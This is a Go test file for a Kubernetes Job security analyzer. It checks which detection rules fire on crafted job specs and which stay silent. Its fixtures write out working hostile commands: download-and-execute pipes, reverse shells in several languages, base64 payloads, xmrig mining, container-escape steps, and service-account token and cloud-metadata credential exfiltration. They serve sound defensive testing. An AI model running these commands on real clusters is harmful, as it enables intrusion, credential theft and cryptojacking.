package analyze

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
)

// tmpl is a functional-option builder for test objects.
type opt func(*batchv1.Job)

func job(opts ...opt) Object {
	j := &batchv1.Job{
		ObjectMeta: metav1.ObjectMeta{Name: "j", Namespace: "default"},
		Spec: batchv1.JobSpec{Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
			RestartPolicy: corev1.RestartPolicyNever,
			Containers:    []corev1.Container{{Name: "main", Image: "registry.example.com/tools/runner:1.2.3"}},
		}}},
	}
	for _, o := range opts {
		o(j)
	}
	return FromJob(j)
}

func sh(script string) opt {
	return func(j *batchv1.Job) { j.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", script} }
}
func argv(a ...string) opt {
	return func(j *batchv1.Job) { j.Spec.Template.Spec.Containers[0].Command = a }
}
func image(im string) opt {
	return func(j *batchv1.Job) { j.Spec.Template.Spec.Containers[0].Image = im }
}
func env(name, value string) opt {
	return func(j *batchv1.Job) {
		c := &j.Spec.Template.Spec.Containers[0]
		c.Env = append(c.Env, corev1.EnvVar{Name: name, Value: value})
	}
}
func withPrivileged() opt {
	return func(j *batchv1.Job) {
		t := true
		j.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: &t}
	}
}
func hostPID() opt { return func(j *batchv1.Job) { j.Spec.Template.Spec.HostPID = true } }
func hostPath(host, mount string, ro bool) opt {
	return func(j *batchv1.Job) {
		name := fmt.Sprintf("v%d", len(j.Spec.Template.Spec.Volumes))
		j.Spec.Template.Spec.Volumes = append(j.Spec.Template.Spec.Volumes, corev1.Volume{Name: name,
			VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: host}}})
		c := &j.Spec.Template.Spec.Containers[0]
		c.VolumeMounts = append(c.VolumeMounts, corev1.VolumeMount{Name: name, MountPath: mount, ReadOnly: ro})
	}
}
func namespace(ns, name string) opt {
	return func(j *batchv1.Job) { j.Namespace, j.Name = ns, name }
}
func annotate(k, v string) opt {
	return func(j *batchv1.Job) {
		if j.Annotations == nil {
			j.Annotations = map[string]string{}
		}
		j.Annotations[k] = v
	}
}
func serviceAccount(sa string) opt {
	return func(j *batchv1.Job) { j.Spec.Template.Spec.ServiceAccountName = sa }
}
func capAdd(c string) opt {
	return func(j *batchv1.Job) {
		j.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Capabilities: &corev1.Capabilities{Add: []corev1.Capability{corev1.Capability(c)}}}
	}
}

// atMostNone in a test's max field demands severity none (zero means unset).
const atMostNone Severity = -1

func mustAnalyzer(t testing.TB) *Analyzer {
	t.Helper()
	a, err := New(DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	return a
}

// TestRules: per rule, objects that must and must not trigger it, and the
// report severity they must reach or stay under.
func TestRules(t *testing.T) {
	a := mustAnalyzer(t)
	tests := []struct {
		name    string
		obj     Object
		rule    string   // must fire ("" for none)
		notRule []string // must not fire
		min     Severity // report severity at least
		max     Severity // report severity at most (SeverityCritical when unset)
	}{
		// JW-EXEC-001 download and execute.
		{name: "curl pipe sh from raw IP", obj: job(sh("curl -fsSL http://45.9.148.35/x.sh | sh")), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "wget -O- pipe bash", obj: job(sh("wget -q -O- https://evil.example/i | bash -s -- --quiet")), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "curl through gunzip into sh", obj: job(sh("curl -s https://x.example/p.gz | gunzip | sh")), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "sh -c with command substitution", obj: job(argv("bash", "-c", `bash -c "$(curl -fsSL https://x.example/i.sh)"`)), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "process substitution", obj: job(argv("bash", "-c", "bash <(curl -s https://x.example/a)")), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "here-string", obj: job(argv("bash", "-c", `bash <<< "$(wget -qO- https://x.example/a)"`)), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "download chmod run", obj: job(sh("cd /tmp && wget http://1.2.3.4/kdev && chmod +x kdev && ./kdev")), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "curl -o then sh file", obj: job(sh("curl -so /tmp/i.sh https://x.example/i.sh; sh /tmp/i.sh")), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "download into variable then eval", obj: job(sh(`P=$(curl -s https://x.example/p); eval "$P"`)), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "obfuscated curl name", obj: job(sh(`c"u"rl -s https://x.example/a | s'h'`)), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "positional parameters", obj: job(argv("/bin/sh", "-c", `curl -s "$0" | $1`, "http://80.94.92.241/gen.sh", "sh")), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "python fetch exec", obj: job(argv("python3", "-c", "import urllib.request as u;exec(u.urlopen('http://x.example/p').read())")), rule: "JW-EXEC-001", min: SeverityHigh},
		{name: "script from a code-hosting site is medium", obj: job(sh("curl -fsSL https://raw.githubusercontent.com/someone/tools/main/install.sh | bash")), rule: "JW-EXEC-001", min: SeverityMedium, max: SeverityMedium},
		{name: "trusted installer host is low", obj: job(sh("curl -fsSL https://get.helm.sh/helm-v3.15.0-linux-amd64.tar.gz | tar xz && ./linux-amd64/helm version")), notRule: []string{"JW-EXEC-001"}, max: SeverityLow},
		{name: "kubectl from dl.k8s.io is low", obj: job(sh("curl -LO https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl && chmod +x kubectl && ./kubectl version --client")), rule: "JW-EXEC-001", max: SeverityLow},
		{name: "curl health check", obj: job(image("curlimages/curl:8.8.0"), sh("curl -fsS --max-time 5 http://orders.payments.svc:8080/healthz")), max: SeverityLow},
		{name: "curl slack notify", obj: job(image("curlimages/curl:8.8.0"), sh(`curl -X POST -H 'Content-type: application/json' --data '{"text":"backup done"}' "$SLACK_WEBHOOK_URL"`)), max: SeverityLow},
		{name: "wget to a report file", obj: job(image("busybox:1.36"), sh("wget -qO- http://reports.internal/api/daily > /tmp/report.json && cat /tmp/report.json")), max: SeverityLow},

		// JW-EXEC-002 reverse shells.
		{name: "bash /dev/tcp", obj: job(sh("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")), rule: "JW-EXEC-002", min: SeverityHigh},
		{name: "nc -e", obj: job(argv("nc", "203.0.113.10", "4444", "-e", "/bin/sh")), rule: "JW-EXEC-002", min: SeverityHigh},
		{name: "ncat --sh-exec", obj: job(sh(`ncat 203.0.113.10 443 --ssl --sh-exec "bash -li"`)), rule: "JW-EXEC-002", min: SeverityHigh},
		{name: "mkfifo relay", obj: job(sh("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.10 4444 > /tmp/f")), rule: "JW-EXEC-002", min: SeverityHigh},
		{name: "socat exec", obj: job(sh("socat tcp-connect:203.0.113.10:4444 exec:'bash -li',pty,stderr,setsid")), rule: "JW-EXEC-002", min: SeverityHigh},
		{name: "python socket", obj: job(argv("python", "-c", `import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.10",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`)), rule: "JW-EXEC-002", min: SeverityHigh},
		{name: "perl socket", obj: job(argv("perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton("203.0.113.10")))){open(STDIN,">&S");exec("/bin/sh -i");};`)), rule: "JW-EXEC-002", min: SeverityHigh},
		{name: "php fsockopen", obj: job(argv("php", "-r", `$s=fsockopen("203.0.113.10",4444);exec("/bin/sh -i <&3 >&3 2>&3");`)), rule: "JW-EXEC-002", min: SeverityHigh},
		{name: "socat over TLS", obj: job(sh("socat OPENSSL:c2.example.net:8443,verify=0 EXEC:'bash -li',pty,stderr")), rule: "JW-EXEC-002", min: SeverityHigh},
		{name: "entrypoint named after the image", obj: job(image("docker.io/gogost/gost:3.0.0"), func(j *batchv1.Job) {
			j.Spec.Template.Spec.Containers[0].Args = []string{"-L", "rtcp://0.0.0.0:10800/127.0.0.1:1080"}
		}), rule: "JW-NET-001", min: SeverityHigh},
		{name: "typosquat on quay.io", obj: job(image("quay.io/prometheus/node-exporterr:v1.8.1")), rule: "JW-IMG-002", min: SeverityHigh},
		{name: "real quay.io image", obj: job(image("quay.io/prometheus/node-exporter:v1.8.1")), notRule: []string{"JW-IMG-002"}},
		{name: "nc port check is fine", obj: job(image("busybox:1.36"), sh("until nc -z postgres.db.svc 5432; do sleep 2; done")), notRule: []string{"JW-EXEC-002"}, max: SeverityLow},

		// JW-EXEC-003 encoded payloads.
		{name: "base64 into sh", obj: job(sh("echo Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | base64 -d | sh")), rule: "JW-EXEC-003", min: SeverityHigh},
		{name: "eval of decoded", obj: job(sh(`eval "$(echo ZWNobyBoaQ== | base64 --decode)"`)), rule: "JW-EXEC-003", min: SeverityHigh},
		{name: "env payload executed", obj: job(env("CFG", "Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA=="), sh(`echo "$CFG" | base64 -d | sh`)), rule: "JW-EXEC-003", min: SeverityHigh},
		{name: "python exec b64", obj: job(argv("python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))")), rule: "JW-EXEC-003", min: SeverityHigh},
		{name: "base64 of a cert is fine", obj: job(env("CA", "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUJJakFOQmdrcWhraUc5dzBCQVFFRgo="), sh("echo \"$CA\" | base64 -d > /etc/ssl/ca.pem")), notRule: []string{"JW-EXEC-003"}, max: SeverityLow},

		// JW-EXEC-004 mining.
		{name: "xmrig argv", obj: job(argv("/usr/local/bin/xmrig", "-o", "pool.supportxmr.com:443", "--donate-level", "1")), rule: "JW-EXEC-004", min: SeverityHigh},
		{name: "stratum in args", obj: job(argv("./svc", "--url", "stratum+tcp://gulf.moneroocean.stream:10128")), rule: "JW-EXEC-004", min: SeverityHigh},
		{name: "wallet in env", obj: job(env("WALLET", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A")), rule: "JW-EXEC-004", min: SeverityHigh},
		{name: "miner image", obj: job(image("docker.io/metal3d/xmrig:latest")), rule: "JW-IMG-001", min: SeverityHigh},

		// JW-ESC-001 and combinations.
		{name: "nsenter with privileged hostPID is critical", obj: job(withPrivileged(), hostPID(), argv("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash", "-c", "id")), rule: "JW-COMBO-001", min: SeverityCritical},
		{name: "chroot host", obj: job(hostPath("/", "/host", false), sh("chroot /host sh -c 'echo ok'")), rule: "JW-ESC-001", min: SeverityHigh},
		{name: "host cron write", obj: job(hostPath("/etc", "/host-etc", false), sh("echo '* * * * * root curl x|sh' > /host-etc/cron.d/upd")), rule: "JW-ESC-001", min: SeverityHigh},
		{name: "cron write without host mount is not escape", obj: job(sh("echo '0 * * * * date' > /etc/cron.d/x")), notRule: []string{"JW-ESC-001"}},
		{name: "release_agent", obj: job(withPrivileged(), sh("mkdir /tmp/c && mount -t cgroup -o rdma cgroup /tmp/c && echo 1 > /tmp/c/notify_on_release")), rule: "JW-ESC-001", min: SeverityCritical},
		{name: "escape-ready without command", obj: job(withPrivileged(), hostPID(), argv("sleep", "infinity")), rule: "JW-COMBO-003", min: SeverityHigh},
		{name: "docker socket", obj: job(hostPath("/var/run/docker.sock", "/var/run/docker.sock", false), argv("docker", "run", "--privileged", "-v", "/:/h", "alpine")), rule: "JW-ESC-001", min: SeverityHigh},
		{name: "miner on privileged pod is critical", obj: job(withPrivileged(), argv("xmrig", "-o", "stratum+tcp://x.example:3333")), rule: "JW-COMBO-002", min: SeverityCritical},

		// JW-CRED-001.
		{name: "metadata credentials", obj: job(sh("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/")), rule: "JW-CRED-001", min: SeverityHigh},
		{name: "token exfil", obj: job(sh("T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -d \"$T\" https://collect.example/t")), rule: "JW-CRED-001", min: SeverityHigh},
		{name: "token to API server is medium", obj: job(sh(`TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -sk -H "Authorization: Bearer $TOKEN" https://kubernetes.default.svc/api/v1/namespaces/default/pods`)), rule: "JW-CRED-001", max: SeverityMedium},
		{name: "pki copied", obj: job(hostPath("/etc/kubernetes", "/k", true), sh("tar czf - /k/pki | curl -T - https://x.example/u")), rule: "JW-CRED-001", min: SeverityHigh},
		{name: "etcdctl using certs is fine", obj: job(sh("etcdctl --cacert=/etc/kubernetes/pki/etcd/ca.crt snapshot save /backup/s.db")), notRule: []string{"JW-CRED-001"}},

		// JW-K8S-001.
		{name: "cluster-admin binding", obj: job(image("bitnami/kubectl:1.30"), sh("kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default")), rule: "JW-K8S-001", min: SeverityHigh},
		{name: "secrets dump", obj: job(image("bitnami/kubectl:1.30"), sh("kubectl get secrets -A -o yaml | gzip > /tmp/s.gz")), rule: "JW-K8S-001", min: SeverityHigh},
		{name: "kubectl housekeeping", obj: job(image("bitnami/kubectl:1.30"), sh("kubectl delete pod -n ci --field-selector=status.phase==Succeeded && kubectl rollout restart deploy/web -n shop")), notRule: []string{"JW-K8S-001"}, max: SeverityLow},

		// JW-NET-001/002.
		{name: "chisel", obj: job(argv("/chisel", "client", "203.0.113.9:8080", "R:socks")), rule: "JW-NET-001", min: SeverityHigh},
		{name: "raw IP URL", obj: job(sh("wget -q http://203.0.113.77/list.txt -O /tmp/l")), rule: "JW-NET-002", min: SeverityMedium},
		{name: "private IP is fine", obj: job(sh("wget -q http://10.0.4.12/list.txt -O /tmp/l")), notRule: []string{"JW-NET-002"}},

		// Images.
		{name: "typosquat nginx", obj: job(image("ngnix:1.25")), rule: "JW-IMG-002", min: SeverityHigh},
		{name: "typosquat namespace", obj: job(image("bitnarni/kubectl:1.30")), rule: "JW-IMG-002", min: SeverityHigh},
		{name: "typosquat registry", obj: job(image("gcr.lo/google-containers/busybox:1.0")), rule: "JW-IMG-002", min: SeverityHigh},
		{name: "official-looking namespace", obj: job(image("alpine-linux/alpine:3.20")), rule: "JW-IMG-002"},
		{name: "real images are not typosquats", obj: job(image("nginx:1.25")), notRule: []string{"JW-IMG-002"}},
		{name: "raw IP registry", obj: job(image("185.220.101.4:5000/tools/sync:latest")), rule: "JW-IMG-003", min: SeverityMedium},
		{name: "latest tag", obj: job(image("alpine:latest")), rule: "JW-IMG-005", max: SeverityLow},
		{name: "digest pinned", obj: job(image("alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000")), notRule: []string{"JW-IMG-005"}},
		{name: "apk add curl then pipe to sh is high", obj: job(image("alpine:3.20"), sh("apk add --no-cache curl && curl -s https://x.example/i | sh")), rule: "JW-IMG-006", min: SeverityHigh},

		// Pod security.
		{name: "writable hostPath / is high", obj: job(hostPath("/", "/host", false)), rule: "JW-POD-001", min: SeverityHigh},
		{name: "read-only /var/log is nothing", obj: job(hostPath("/var/log", "/logs", true)), notRule: []string{"JW-POD-001"}, max: SeverityLow},
		{name: "read-only /etc is low", obj: job(hostPath("/etc", "/host/etc", true)), rule: "JW-POD-001", max: SeverityLow},
		{name: "SYS_ADMIN", obj: job(capAdd("SYS_ADMIN")), rule: "JW-POD-002", min: SeverityMedium},
		{name: "privileged alone is medium", obj: job(withPrivileged()), rule: "JW-PSS-001", min: SeverityMedium, max: SeverityMedium},

		// Identity, scheduling, stealth.
		{name: "controller SA", obj: job(namespace("kube-system", "gc"), serviceAccount("clusterrole-aggregation-controller")), rule: "JW-ID-001", min: SeverityHigh},
		{name: "system imitation", obj: job(namespace("kube-system", "kube-proxy-updater"), image("docker.io/someone/proxy:1.0")), rule: "JW-SCHED-003", min: SeverityMedium},
		{name: "disguised miner", obj: job(namespace("kube-system", "kube-proxy-updater"), image("docker.io/someone/proxy:1.0"), argv("xmrig", "-o", "stratum+tcp://p.example:3333")), rule: "JW-COMBO-004", min: SeverityCritical},
		{name: "self exemption raises", obj: job(annotate("polaris.fairwinds.com/exempt", "true"), withPrivileged()), rule: "JW-EVADE-001", min: SeverityHigh},
		{name: "self exemption alone is low", obj: job(annotate("kube-score/ignore", "container-resources")), rule: "JW-EVADE-001", max: SeverityLow},
		{name: "manual run", obj: job(annotate("cronjob.kubernetes.io/instantiate", "manual")), rule: "JW-SCHED-004", max: SeverityLow},

		// The seed's false-positive list stays below medium.
		{name: "FP: CI on alpine", obj: job(image("alpine:3.20"), sh("apk add --no-cache git make && git clone https://github.com/acme/app && cd app && make test")), max: SeverityLow},
		{name: "FP: housekeeping", obj: job(image("alpine:3.20"), sh("find /var/log -mtime +7 -delete")), max: atMostNone},
		{name: "FP: ubuntu build", obj: job(image("ubuntu:22.04"), argv("/bin/bash", "-c", "set -euo pipefail; apt-get update && apt-get install -y make && make release")), max: SeverityLow},
		{name: "FP: kube-bench", obj: job(image("docker.io/aquasec/kube-bench:v0.8.0"), hostPID(), hostPath("/etc", "/etc", true), hostPath("/var/lib/kubelet", "/var/lib/kubelet", true), argv("kube-bench", "run", "--targets", "node")), max: SeverityLow},
		{name: "FP: python print", obj: job(image("python:3.12-slim"), argv("python", "-c", "print('hello from the report job')")), max: atMostNone},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := a.Analyze(tc.obj)
			ids := r.RuleIDs()
			if tc.rule != "" && !slices.Contains(ids, tc.rule) {
				t.Errorf("%s did not fire; got %v", tc.rule, describe(r))
			}
			for _, n := range tc.notRule {
				if slices.Contains(ids, n) {
					t.Errorf("%s fired: %v", n, describe(r))
				}
			}
			if r.Severity < tc.min {
				t.Errorf("severity %s < %s: %v", r.Severity, tc.min, describe(r))
			}
			maxSev := tc.max
			switch maxSev {
			case SeverityNone:
				maxSev = SeverityCritical // unset
			case atMostNone:
				maxSev = SeverityNone
			}
			if r.Severity > maxSev {
				t.Errorf("severity %s > %s: %v", r.Severity, maxSev, describe(r))
			}
			for _, f := range r.Findings {
				if f.Path == "" || f.Evidence == "" || len(f.Attack) == 0 || f.Title == "" {
					t.Errorf("incomplete finding %+v", f)
				}
			}
		})
	}
}

func describe(r Report) string {
	var b strings.Builder
	for _, f := range r.Findings {
		fmt.Fprintf(&b, "\n  %s %s %s: %s", f.Rule, f.Severity, f.Path, f.Evidence)
	}
	return b.String()
}

func TestEveryRuleHasMetadataAndATTACK(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		if seen[r.ID] {
			t.Errorf("duplicate rule %s", r.ID)
		}
		seen[r.ID] = true
		if r.Title == "" || r.Description == "" || r.Remediation == "" || len(r.Attack) == 0 {
			t.Errorf("rule %s lacks metadata", r.ID)
		}
		if (r.check == nil) == (r.combine == nil) {
			t.Errorf("rule %s must have exactly one of check and combine", r.ID)
		}
		if !slices.Contains(r.Attack, "T1053.007") {
			t.Errorf("rule %s does not name T1053.007", r.ID)
		}
	}
}
